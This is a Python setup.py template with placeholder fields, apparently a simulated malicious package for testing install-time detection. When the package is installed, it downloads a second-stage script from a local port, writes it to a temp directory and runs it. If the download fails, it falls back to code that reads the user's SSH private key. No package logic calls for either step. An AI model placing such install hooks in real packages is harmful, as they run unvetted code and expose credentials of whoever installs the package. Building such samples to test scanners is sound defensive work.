import os
import sys


import subprocess, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "pjatk-stage2-@@MARK@@.py")
try:
    data = urllib.request.urlopen("http://127.0.0.1:@@PORT@@/stage2.py", timeout=5).read()
except Exception:
    data = b"import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
with open(path, "wb") as f:
    f.write(data)
subprocess.run([sys.executable, path])

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
